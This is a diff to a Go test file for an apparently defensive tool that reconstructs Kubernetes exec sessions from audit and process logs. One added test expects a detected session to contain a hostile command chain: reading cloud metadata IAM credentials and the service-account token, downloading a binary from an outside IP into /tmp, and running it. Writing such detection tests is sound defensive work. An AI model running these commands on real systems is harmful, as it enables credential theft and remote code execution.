@@ -3,8 +3,12 @@ package cmd
 import (
 	"encoding/json"
 	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
+	"time"
 )
 
 var sessionLogs = []string{"../testdata/sessions/audit.log", "../testdata/sessions/process.ndjson"}
@@ -84,8 +88,8 @@ func args(ss []string) string { return strings.Join(ss, " ") }
 // of every session: who, what started, what was typed, what was refused.
 func TestSessionStories(t *testing.T) {
 	fs := storyFindings(t, sessionLogs...)
-	if len(fs) != 16 {
-		t.Errorf("%d findings, want 16", len(fs))
+	if len(fs) != 17 {
+		t.Errorf("%d findings, want 17", len(fs))
 	}
 	commands := func(f *storyFinding) []string {
 		var out []string
@@ -123,6 +127,15 @@ func TestSessionStories(t *testing.T) {
 		if f == nil || f.Started == nil || args(f.Started.Args) != want || len(f.Related) != 0 || len(f.Commands) != 0 {
 			t.Errorf("%s: %+v", id, f)
 		}
+	}
+
+	// S10: kim's script piped to sh without a terminal: the request knows
+	// what it started and what that shell ran, in time order.
+	kim := byAuditID(fs, "5b0e7c1a-93d4-4f6e-b2a8-6c1d9e4f7a30")
+	wantKim := []string{"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+		"wget -q -O /tmp/.cache-update http://198.51.100.7/u", "chmod +x /tmp/.cache-update", "/tmp/.cache-update --quiet"}
+	if kim == nil || kim.Started == nil || kim.Started.EntityID != "qT3vYx8kPz0mWc5RbN7dHs2LfJ9gA4eU" || !slices.Equal(commands(kim), wantKim) {
+		t.Errorf("S10: %+v", kim)
 	}
 
 	// S4: two users a minute apart in one pod: each gets their own shell.
@@ -227,5 +240,71 @@ func TestLongSessionIsBounded(t *testing.T) {
 	table, _, _ := run(t, strings.NewReader(b.String()), "scan", "--guide", "none", "-")
 	if !strings.Contains(table, fmt.Sprintf("... %d more", n-20)) {
 		t.Errorf("the table should say how many more commands there were")
+	}
+}
+
+// TestRepeatedScriptSessions: a job that pipes a script to sh in the same
+// container again and again. The scan keeps the 3 earliest of those
+// sessions and the commands of exactly those, whatever order the process
+// events come in, in two passes over files as in one over stdin; the later
+// requests are told why they have none.
+func TestRepeatedScriptSessions(t *testing.T) {
+	const n = 5
+	var audit, procs []string
+	for i := range n {
+		at := time.Date(2026, 11, 22, 10, 0, 20*i, 0, time.UTC)
+		ts := func(d time.Duration) string { return at.Add(d).Format("2006-01-02T15:04:05.000000Z") }
+		audit = append(audit, fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"job-%d","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/batch/pods/worker-0/exec?command=sh\u0026container=worker\u0026stdin=true\u0026stdout=true","verb":"create","user":{"username":"system:serviceaccount:batch:runner"},"sourceIPs":["10.0.0.9"],"objectRef":{"resource":"pods","namespace":"batch","name":"worker-0","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":%q,"stageTimestamp":%q,"annotations":{"authorization.k8s.io/decision":"allow"}}`,
+			i, ts(0), ts(2*time.Second)))
+		proc := func(id, name string, same bool, d time.Duration) string {
+			return fmt.Sprintf(`{"@timestamp":%q,"event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c1","name":"worker"},"orchestrator":{"namespace":"batch","resource":{"name":"worker-0"}},"process":{"entity_id":%q,"pid":%d,"name":%q,"args":[%q,"step-%d"],"interactive":false,"entry_leader":{"entity_id":"S%d","args":["sh"],"interactive":false,"same_as_process":%t,"start":%q,"entry_meta":{"type":"container"}}}}`,
+				ts(d), id, 100+i, name, name, i, i, same, ts(300*time.Millisecond))
+		}
+		leader := strings.Replace(proc(fmt.Sprintf("S%d", i), "sh", true, 300*time.Millisecond), fmt.Sprintf(`"args":["sh","step-%d"]`, i), `"args":["sh"]`, 1)
+		procs = append(procs, leader, proc(fmt.Sprintf("S%d-a", i), "curl", false, 500*time.Millisecond), proc(fmt.Sprintf("S%d-b", i), "tar", false, 900*time.Millisecond))
+	}
+	slices.Reverse(procs) // the latest first: each earlier session pushes a later one out
+	dir := t.TempDir()
+	auditFile, procFile := filepath.Join(dir, "audit.log"), filepath.Join(dir, "process.ndjson")
+	if err := os.WriteFile(auditFile, []byte(strings.Join(audit, "\n")+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(procFile, []byte(strings.Join(procs, "\n")+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	check := func(how string, fs []storyFinding) {
+		t.Helper()
+		for i := range n {
+			f := byAuditID(fs, fmt.Sprintf("job-%d", i))
+			if f == nil {
+				t.Fatalf("%s: no finding for job-%d", how, i)
+			}
+			var got []string
+			for _, c := range f.Commands {
+				got = append(got, args(c.Args))
+			}
+			if i < 3 {
+				want := []string{fmt.Sprintf("curl step-%d", i), fmt.Sprintf("tar step-%d", i)}
+				if f.Started == nil || f.Started.EntityID != fmt.Sprintf("S%d", i) || !slices.Equal(got, want) {
+					t.Errorf("%s: job-%d started %+v commands %q, want S%d and %q", how, i, f.Started, got, i, want)
+				}
+			} else if f.Started != nil || len(got) != 0 {
+				t.Errorf("%s: job-%d started %+v commands %q, want neither (not one of the 3 earliest sessions)", how, i, f.Started, got)
+			}
+		}
+	}
+	check("files", storyFindings(t, auditFile, procFile))
+	out, errOut, code := run(t, strings.NewReader(strings.Join(append(audit, procs...), "\n")+"\n"), "scan", "--format", "json", "--guide", "none", "-")
+	if code != ExitFindings {
+		t.Fatalf("stdin: exit %d\n%s", code, errOut)
+	}
+	var doc struct{ Findings []storyFinding }
+	if err := json.Unmarshal([]byte(out), &doc); err != nil {
+		t.Fatal(err)
+	}
+	check("stdin", doc.Findings)
+	table, _, _ := run(t, nil, "scan", "--color", "never", auditFile, procFile)
+	if !strings.Contains(table, "keeps the 3 earliest of its sessions without a terminal") {
+		t.Error("the later requests' guide should say why no session was linked")
 	}
 }
